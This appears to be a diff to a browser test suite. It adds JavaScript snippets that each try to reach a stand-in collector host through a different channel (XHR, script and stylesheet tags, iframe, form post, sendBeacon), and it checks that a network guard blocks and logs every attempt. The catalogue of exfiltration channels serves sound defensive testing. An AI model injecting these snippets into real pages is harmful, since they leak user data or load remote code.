@@ -167,6 +167,12 @@ LEAKS = {
     "image": "new Promise(done => { const i = new Image(); i.onerror = i.onload = done; i.src = 'https://collector.example.com/p.gif'; })",
     "redirect": "location.replace('https://collector.example.com/landing')",
     "popup": "void window.open('https://collector.example.com/popup')",
+    "xhr": "new Promise(done => { const x = new XMLHttpRequest(); x.onloadend = done; x.open('GET', 'https://collector.example.com/x'); x.send(); })",
+    "stylesheet": "void document.head.append(Object.assign(document.createElement('link'), {rel: 'stylesheet', href: 'https://collector.example.com/s.css'}))",
+    "script": "void document.head.append(Object.assign(document.createElement('script'), {src: 'https://collector.example.com/s.js'}))",
+    "iframe": "void document.body.append(Object.assign(document.createElement('iframe'), {src: 'https://collector.example.com/frame'}))",
+    "form-post": "(() => { const f = Object.assign(document.createElement('form'), {method: 'post', action: 'https://collector.example.com/post'}); document.body.append(f); f.submit(); })()",
+    "beacon": "void navigator.sendBeacon('https://collector.example.com/beacon', 'sfzh=1')",
 }  # fmt: skip
 
 
@@ -179,5 +185,5 @@ def test_network_guard_blocks_and_names_every_way_out(
     with context.expect_event("requestfailed", lambda request: "collector.example.com" in request.url) as failed:
         page.evaluate(LEAKS[kind])
     assert (failed.value.failure or "").startswith("net::ERR_BLOCKED_BY_CLIENT")
-    assert [b for b in site.blocked if "collector.example.com" in b] == [f"GET {failed.value.url}"]
+    assert [b for b in site.blocked if "collector.example.com" in b] == [f"{failed.value.method} {failed.value.url}"]
     site.blocked.clear()  # recorded as it should be; the fixture would otherwise fail this test
